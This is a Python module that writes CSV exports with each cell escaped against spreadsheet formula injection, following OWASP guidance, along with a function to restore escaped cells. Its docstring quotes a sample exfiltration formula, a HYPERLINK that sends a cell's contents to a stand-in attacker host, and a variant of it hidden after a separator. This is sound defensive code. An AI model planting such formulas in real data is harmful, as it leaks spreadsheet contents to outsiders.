"""The one way mailwarden writes CSV: every cell neutralised against formula injection.

A spreadsheet opening a CSV runs any cell that starts with '=', '+', '-' or '@' as a formula, and a tab
or carriage return in front of those still starts one, so a display name such as
'=HYPERLINK("https://evil.example/?"&A1, "Open")' would become a live link in every export. Following
OWASP's CSV-injection guidance, such a cell is written with a single quote in front, which makes the
spreadsheet show it as text.

A spreadsheet whose list separator is ';' (most of Europe) splits a comma-CSV cell at every ';' (and one
whose separator is ',' splits a ';'-CSV at ','), so 'x;=HYPERLINK(...)' becomes a second, live cell there.
OWASP's guidance covers that too: the part after a separator (',' ';' or a tab, spaces after it allowed)
that starts a formula gets the quote as well ('x;'=HYPERLINK(...)'), so the visible text stays readable.

The cost, accepted as OWASP accepts it: a negative number ('-5') or a phone number ('+1 555 0100') is
also written with the quote ('-5 becomes '-5), and so is a cell starting with spaces then a formula. A
cell that already begins with a quote gets one more (so does a quote right after a separator), so
`restore` gives back exactly what was written and an export read back (the audit log's) is unchanged.

    writer = csv_writer(out)
    writer.writerow(["name", "address"])
    writer.writerow([display_name, address])
"""

from __future__ import annotations

import csv
import re
from collections.abc import Iterable
from typing import Any, TextIO

__all__ = ["CsvWriter", "csv_writer", "neutralise", "restore"]

# The characters that make a spreadsheet read a cell as a formula (OWASP), and the quote that escapes them.
_FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
_QUOTE = "'"
# A separator a spreadsheet may split at, before a formula start (spaces between allowed: an import that
# trims spaces still runs it) or before a quote (quoted again so `restore` can drop every quote it finds).
_AFTER_SEPARATOR = re.compile(r"([,;\t])(?=[ ]*[=+\-@\t\r]|')")
_QUOTE_AFTER_SEPARATOR = re.compile(r"([,;\t])'")


def neutralise(cell: str) -> str:
    """The cell as a spreadsheet will show it as text: a quote in front of a formula start (or a quote),
    at the start of the cell and after every separator a spreadsheet might split the cell at."""
    cell = _AFTER_SEPARATOR.sub(r"\1" + _QUOTE, cell)
    if cell.lstrip(" ").startswith(_FORMULA_START) or cell.startswith(_QUOTE):
        return _QUOTE + cell
    return cell


def restore(cell: str) -> str:
    """The text `neutralise` was given (for reading an export back)."""
    cell = cell[1:] if cell.startswith(_QUOTE) else cell
    return _QUOTE_AFTER_SEPARATOR.sub(r"\1", cell)


class CsvWriter:
    """`csv.writer` whose every cell is text passed through `neutralise`."""

    def __init__(self, out: TextIO) -> None:
        self._writer = csv.writer(out)

    def writerow(self, cells: Iterable[Any]) -> None:
        self._writer.writerow([neutralise("" if cell is None else str(cell)) for cell in cells])

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        for row in rows:
            self.writerow(row)


def csv_writer(out: TextIO) -> CsvWriter:
    """The writer every CSV export uses (reports, views, the audit log)."""
    return CsvWriter(out)
